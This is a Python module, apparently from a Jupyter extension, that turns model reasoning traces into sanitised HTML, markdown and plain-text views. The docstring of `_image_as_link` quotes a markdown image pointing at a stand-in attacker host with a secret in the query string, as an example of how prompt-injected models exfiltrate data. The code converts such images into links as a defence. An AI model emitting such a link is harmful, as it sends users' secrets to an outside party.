"""Trace -> safe static views (``text/html``, ``text/markdown``, ``text/plain``) in one of
:data:`MODES`: ``collapsible`` (the reasoning in a closed ``<details>``), ``inline`` (always
visible, for print, PDF and LaTeX, where nothing can be clicked open) or ``strip``.

Model text is untrusted: markdown is rendered with raw HTML off, links are kept only for http,
https, mailto and in-page anchors, images become links (nothing loads by itself), and every other
string is escaped. Colours come from Lab's CSS variables with light fallbacks, so the views read
in JupyterLab Light and Dark and on a white page.
"""

from __future__ import annotations

import html
import re
from functools import lru_cache, partial
from typing import TYPE_CHECKING

from markdown_it import MarkdownIt

from .cell_runs import CellRuns, run_label
from .code_look import CODE_PREFIX, CODE_STYLE, code_html
from .diverge_view import (
    Parting,
    diverge,
    parting_html,
    parting_markdown,
    parting_plain,
    saved_html,
)
from .markdown_safety import SAFE_LINK, html_block, html_label, is_inert, md_escape
from .math_text import IGNORE, PROCESS, dollar_math, holds_math, math_plugin, prose_html
from .theme import lab
from .trace_labels import error_label, notes, summary

if TYPE_CHECKING:
    from ..core.trace import Trace

CSS_CLASS = "reasoning-nb"
ERROR_CLASS = f"{CSS_CLASS}-error"
"""A failed run's error line, in the static views and the live widget."""
ERROR_LOOK = (
    f"background:{lab('rendermime-error-background')};"
    "color:var(--jp-content-font-color1,#212121);padding:.3em .7em;line-height:1.4;"
    f"white-space:pre-wrap;font-family:{lab('code-font-family')};"
    f"font-size:{lab('code-font-size')}"
)
"""How an error line looks: as Jupyter shows a failed cell's error (its colours, or a light
pair that reads on any page)."""


def _safe_link(url: str) -> bool:
    return SAFE_LINK.match(url.strip()) is not None


def _image_as_link(renderer, tokens, idx, options, env) -> str:
    """A remote image would load by itself (``![x](https://attacker.example/?q=SECRET)`` is the
    known exfiltration trick for prompt-injected models): it becomes a link to click instead."""
    token = tokens[idx]
    src = token.attrGet("src") or ""
    alt = renderer.renderInlineAsText(token.children or [], options, env) or src
    href = html.escape(src)
    return f'<a href="{href}" rel="nofollow noopener noreferrer">image: {prose_html(alt)}</a>'


@lru_cache(maxsize=8)
def _md(breaks: bool, highlight: bool, code_classes: bool = False) -> MarkdownIt:
    rule = partial(code_html, code_classes) if highlight else None
    md = MarkdownIt(
        "commonmark", {"html": False, "xhtmlOut": False, "breaks": breaks, "highlight": rule}
    )  # (<br>, not <br />: reasoning has one a line, and a notebook saves each byte)
    md.enable(["table", "strikethrough"])
    md.validateLink = _safe_link
    md.add_render_rule("image", _image_as_link)
    md.use(math_plugin)
    return md


def markdown_html(
    text: str, *, breaks: bool = False, highlight: bool = True, code_classes: bool = False
) -> str:
    """Untrusted markdown as HTML, raw HTML off. ``highlight=False`` leaves code plain, for text
    re-sent on every live update (inline styles would multiply the bytes). ``code_classes=True``
    highlights with classes, for a view that holds :data:`CODE_STYLE` (readable in a dark theme
    too); Pygments' inline colours are what the live widget's byte budget is tuned to."""
    return _md(breaks, highlight, code_classes).render(text)


def markdown_tokens(text: str, *, breaks: bool = False) -> list:
    """The tokens :func:`markdown_html` renders ``text`` from: a top-level one is a top-level
    element of its HTML (Pin maps a selection in it back to the text: ``notebook.selection``)."""
    return _md(breaks, False).parse(text)


_TABLE_LOOK = (
    ("table", "border-collapse:collapse;margin:0 0 1em"),  # (no border-spacing: collapsed)
    ("thead", f"border-bottom:{lab('border-width')} solid var(--jp-border-color1,#9e9e9e)"),
    (":is(th,td)", "padding:.5em;vertical-align:middle;border:none;text-align:left"),
    ("th", "text-align:center"),
    ("tbody tr:nth-child(even)", f"background:{lab('rendermime-table-row-background')}"),
)
# (two classes: as specific as Lab's rule that right-aligns the cells of HTML outputs)
TABLE_STYLE = (
    "<style>"
    + "".join(f".{CSS_CLASS}.{CSS_CLASS}-export {s}{{{r}}}" for s, r in _TABLE_LOOK)
    + "</style>"
)
"""Tables as a JupyterLab markdown cell draws them (a rule under the head, striped rows, cells
aligned as the markdown says, else as there), in Lab's colours or ones that read on any page."""


MODES = ("collapsible", "inline", "strip")

# A background always with its text colour: Lab Dark's text is white.
_INLINE_BOX = (
    f"border:1px solid {lab('border-color2')};border-left:4px solid #8c6bc8;"
    f"background:{lab('layout-color2')};color:{lab('content-font-color1')};"
    "padding:0.5em 0.9em 0.1em 0.9em;margin:0.3em 0 0.6em 0;border-radius:4px"
)
_MUTED = f"color:{lab('content-font-color2')}"
_INLINE_HEAD = f"font-weight:600;font-size:0.85em;{_MUTED};margin-bottom:0.3em"
_SUMMARY = f"cursor:pointer;{_MUTED};font-size:0.95em"
_FOLDED_BODY = "opacity:0.85;border-left:3px solid #ccc;padding-left:0.8em;margin:0.3em 0"
_META = "font-size:0.85em;opacity:0.7"
_EARLIER_BODY = "border-left:3px solid #ccc;padding-left:0.8em;margin:0.3em 0"


def page_style(fragment: str) -> str:
    """:data:`CODE_STYLE` when ``fragment`` holds highlighted code, :data:`TABLE_STYLE` when it
    holds a table (model text cannot: its ``<`` is escaped)."""
    code = CODE_STYLE if f'class="{CODE_PREFIX}' in fragment else ""
    return code + (TABLE_STYLE if "<table" in fragment else "")


def to_html(
    trace: Trace,
    mode: str = "collapsible",
    *,
    highlight: bool = True,
    runs: CellRuns | None = None,
    with_subject: bool = True,
    saved: bool = False,
) -> str:
    """``with_subject=False``: the footer leaves out the model and preset (a ``--compare``
    column's title says them); ``saved``: as a notebook cell saves it (where the runs part
    quotes less: ``diverge_view.saved_html``)."""
    out = [f'<div class="{CSS_CLASS} {CSS_CLASS}-export {CSS_CLASS}-{mode} {IGNORE}">']
    out += _which_run_html(trace, runs) if runs else []
    out += _run_html(trace, mode, highlight, with_subject)
    out += _parted_html(trace, runs, mode, saved)
    out += _earlier_html(runs.earlier, mode, highlight) if runs and runs.earlier else []
    out.append("</div>")
    out.insert(1, page_style("".join(out)))
    return "".join(out)


def _parted(trace: Trace, runs: CellRuns | None, mode: str) -> list[Parting]:
    """Where the reasoning of a cell's latest run parts from the run before it (none for a
    cell run once, or where either has no reasoning to show)."""
    if not runs or not runs.earlier or mode == "strip":
        return []
    before, total = runs.earlier[-1], len(runs.earlier) + 1
    if not (before.reasoning.strip() and trace.reasoning.strip()):
        return []
    names = (run_label(total - 1, before), run_label(total, trace))
    return [diverge(before, trace, names=names)]


def _parted_html(trace: Trace, runs: CellRuns | None, mode: str, saved: bool) -> list[str]:
    partings = _parted(trace, runs, mode)
    if saved and partings:
        text = sum(len((t.reasoning + t.answer).encode()) for t in (trace, runs.earlier[-1]))
        return saved_html(partings, text)
    return [parting_html(p, opened=mode == "inline") for p in partings]


def _which_run_html(trace: Trace, runs: CellRuns) -> list[str]:
    label, line = runs.label(trace), runs.matching_line(trace)
    if not label and not line:
        return []
    parts = [html.escape(label)] if label else []
    if line:
        code = f'<code class="{CSS_CLASS}-line">{html.escape(line)}</code>'
        parts.append(f"cell line for this run: {code}")
    return [f'<div class="{CSS_CLASS}-which" style="{_META}">{"<br>".join(parts)}</div>']


def _earlier_html(earlier: tuple[Trace, ...], mode: str, highlight: bool) -> list[str]:
    """The earlier runs in a closed ``<details>`` (open where nothing can be clicked)."""
    opened = " open" if mode == "inline" else ""
    out = [
        f'<details class="{CSS_CLASS}-earlier"{opened}>'
        f'<summary style="{_SUMMARY}">Earlier runs ({len(earlier)})</summary>'
        f'<div style="{_EARLIER_BODY}">'
    ]
    for number, trace in enumerate(earlier, 1):
        out.append(f'<div class="{CSS_CLASS}-which" style="{_META}">')
        out.append(f"{html.escape(run_label(number, trace))}</div>")
        out += _run_html(trace, mode, highlight)
    out.append("</div></details>")
    return out


def _run_html(trace: Trace, mode: str, highlight: bool, with_subject: bool = True) -> list[str]:
    out = []
    if trace.reasoning and mode != "strip":
        head = html.escape(summary(trace))
        body = markdown_html(trace.reasoning, breaks=True, highlight=highlight, code_classes=True)
        if mode == "inline":  # (the summary beside the body: no math read there)
            math = _math_class(body)
            head_math = f" {IGNORE}" if math else ""
            out.append(
                f'<div class="{CSS_CLASS}-reasoning{math}" style="{_INLINE_BOX}">'
                f'<div class="{CSS_CLASS}-summary{head_math}" style="{_INLINE_HEAD}">{head}</div>'
                f"{body}</div>"
            )
        else:  # folded, unless there is no answer to read instead
            opened = "" if trace.answer else " open"
            math = f' class="{PROCESS}"' if holds_math(body) else ""
            out.append(
                f'<details class="{CSS_CLASS}-reasoning"{opened}>'
                f'<summary style="{_SUMMARY}">{head}</summary>'
                f'<div{math} style="{_FOLDED_BODY}">{body}</div></details>'
            )
    answer = markdown_html(trace.answer, highlight=highlight, code_classes=True)
    out.append(f'<div class="{CSS_CLASS}-answer{_math_class(answer)}">{answer}</div>')
    meta = "<br>".join(html.escape(n) for n in notes(trace, with_subject=with_subject))
    out.append(f'<div class="{CSS_CLASS}-meta" style="{_META}">{meta}</div>')
    if trace.error:  # on a line of its own that looks it, as in the live widget
        error = html.escape(f"✖ {trace.error}")
        out.append(f'<div class="{ERROR_CLASS}" style="{ERROR_LOOK}">{error}</div>')
    return out


def _math_class(fragment: str) -> str:
    """The class that lets MathJax read the math of rendered markdown (``math_text``), for the
    element that holds it, after its own."""
    return f" {PROCESS}" if holds_math(fragment) else ""


def safe_markdown(text: str, *, breaks: bool = False, allow_fences: bool = True) -> str:
    """Model text for a markdown file: itself when inert (its math delimited as markdown
    renderers expect, see ``math_text.dollar_math``), else its safe HTML rendering.

    In that HTML every ``$`` and backslash is a character reference: JupyterLab's markdown
    lifts ``$…$`` and ``\\begin{…}`` out of the source before parsing it and escapes them
    again, so an escaped ``&lt;`` would show as text. The browser reads the same characters.
    Code is highlighted with classes and no stylesheet (markdown renderers drop ``<style>``):
    plain, in the text colour, unless the page holds :data:`CODE_STYLE`.
    """
    written = dollar_math(_md(False, False), text)
    if written is not None and is_inert(written, allow_fences=allow_fences):
        return written
    return safe_html(text, breaks=breaks)


def safe_html(text: str, *, breaks: bool = False) -> str:
    fragment = markdown_html(text, breaks=breaks, code_classes=True)
    math = PROCESS if holds_math(fragment) else IGNORE
    fragment = fragment.replace("$", "&#36;").replace("\\", "&#92;")
    return html_block(fragment, f"{CSS_CLASS}-md {math}")


def quote(block: str) -> str:
    return "\n".join(f"> {line}" if line else ">" for line in block.split("\n"))


def pin_head(model: str, preset: str, part: str = "reasoning") -> str:
    """A pinned cell's first line (see ``notebook.pin``; a stripped export keeps it): whose
    ``part`` (reasoning or answer) it holds."""
    head = f"{part.capitalize()} of {model or 'the model'} · preset {preset}"
    return f"> **{md_escape(head)}**"


def to_markdown(trace: Trace, mode: str = "collapsible", *, runs: CellRuns | None = None) -> str:
    parts = [_which_run_markdown(trace, runs)] if runs else []
    if trace.reasoning and mode != "strip":
        # Quoted text: no fence exemption (fences in blockquotes are where renderers differ).
        body = quote(safe_markdown(trace.reasoning, breaks=True, allow_fences=False))
        if mode == "inline":
            parts.append(f"> **{md_escape(summary(trace))}**\n>\n{body}")
        else:
            head = html_label(summary(trace))
            parts.append(f"<details>\n<summary>{head}</summary>\n\n{body}\n\n</details>")
    answer = safe_markdown(trace.answer)
    if answer:
        parts.append(answer)
    lines = [*notes(trace), error_label(trace)]
    parts.append("  \n".join(f"*{md_escape(n)}*" for n in lines if n))
    parts += [parting_markdown(p, opened=mode == "inline") for p in _parted(trace, runs, mode)]
    if runs and runs.earlier:
        opened = " open" if mode == "inline" else ""
        parts.append(f"<details{opened}>\n<summary>Earlier runs ({len(runs.earlier)})</summary>")
        for number, earlier in enumerate(runs.earlier, 1):
            parts.append(f"**{md_escape(run_label(number, earlier))}**")
            parts.append(to_markdown(earlier, mode))
        parts.append("</details>")
    return "\n\n".join(p for p in parts if p)


def _which_run_markdown(trace: Trace, runs: CellRuns) -> str:
    label, line = runs.label(trace), runs.matching_line(trace)
    lines = [f"*{md_escape(label)}*"] if label else []
    if line:  # (a code span cannot hold its own fence: as many backticks as it holds, + 1)
        fence = "`" * (max(map(len, re.findall("`+", line)), default=0) + 1)
        lines.append(f"*cell line for this run:* {fence} {line} {fence}")
    return "  \n".join(lines)


def to_plain(trace: Trace, mode: str = "collapsible", *, runs: CellRuns | None = None) -> str:
    parts = _which_run_plain(trace, runs) if runs else []
    if trace.reasoning and mode != "strip":
        parts.append(f"[{summary(trace)}]\n{trace.reasoning}\n[/reasoning]")
    parts.append(trace.answer)
    lines = [*notes(trace), error_label(trace)]
    parts.extend(f"({n})" if i == 0 else n for i, n in enumerate(lines) if n)
    parts += [parting_plain(p) for p in _parted(trace, runs, mode)]
    for number, earlier in enumerate(runs.earlier if runs else (), 1):
        parts.append(f"[Earlier: {run_label(number, earlier)}]\n\n{to_plain(earlier, mode)}")
    return "\n\n".join(p for p in parts if p)


def _which_run_plain(trace: Trace, runs: CellRuns) -> list[str]:
    label, line = runs.label(trace), runs.matching_line(trace)
    return [label, f"cell line for this run: {line}" if line else ""]


def bundle(
    trace: Trace, mode: str = "collapsible", *, runs: CellRuns | None = None
) -> dict[str, str]:
    """The static MIME bundle that exports show."""
    return {
        "text/html": to_html(trace, mode, runs=runs),
        "text/markdown": to_markdown(trace, mode, runs=runs),
        "text/plain": to_plain(trace, mode, runs=runs),
    }


FULL_TEXT = "(reasoning and answer in full: as HTML, or jupyter nbconvert --to reasoning-markdown)"


def cell_bundle(trace: Trace, runs: CellRuns | None = None) -> dict[str, str]:
    """The static views a ``%%think`` cell saves beside its trace: the reasoning and answer
    once, as ``text/html`` (code highlighted by class, as the live view and the export show it);
    ``text/markdown`` and ``text/plain``, which only a console or a LaTeX export reads, sum the
    run up. The exporters rebuild all three in full from the trace (:func:`bundle`)."""
    html_view = flat(to_html(trace, runs=runs, saved=True))
    return {"text/html": html_view, **outline(trace, runs)}


_CODE = re.compile(r"<pre[\s>].*?</pre>", re.S)
"""Code blocks: their line ends mean something (math's are references: ``math_text``)."""


_TEXT = re.compile(r">[^<]*<")
"""The text between two tags (no tag holds a ``>``: markdown-it escapes it in an attribute)."""


def flat(fragment: str) -> str:
    """``fragment`` with its line ends outside code as spaces, which a browser reads alike (none
    after a ``<br>``, which ends the line already: a reasoning's lines cost 4 bytes, not 5): a
    notebook stores a string as one JSON string per line, ~13 bytes more a line. A ``"`` in
    text is written as itself (2 bytes in a notebook's JSON), not as ``&quot;`` (6)."""
    out, at = [], 0
    for m in _CODE.finditer(fragment):
        out += [_flat_text(fragment[at : m.start()]), m.group()]
        at = m.end()
    fragment = "".join([*out, _flat_text(fragment[at:])])
    return _TEXT.sub(lambda m: m.group().replace("&quot;", '"'), fragment)


def _flat_text(fragment: str) -> str:
    return fragment.replace("<br>\n", "<br>").replace("\n", " ")


def outline(trace: Trace, runs: CellRuns | None = None) -> dict[str, str]:
    """``text/markdown`` and ``text/plain`` that sum a run up and say where its text is."""
    lines = [n for n in _which_run_plain(trace, runs) if n] if runs else []
    lines += [f"[{summary(trace)}]"] if trace.reasoning else []
    lines += [f"[Answer · {len(trace.answer):,} characters]"] if trace.answer else []
    lines += [*notes(trace)]
    lines += [f"Earlier runs: {len(runs.earlier)}"] if runs and runs.earlier else []
    lines.append(FULL_TEXT)
    return {
        "text/markdown": "  \n".join(f"*{md_escape(n)}*" for n in lines),
        "text/plain": "\n".join(lines),
    }
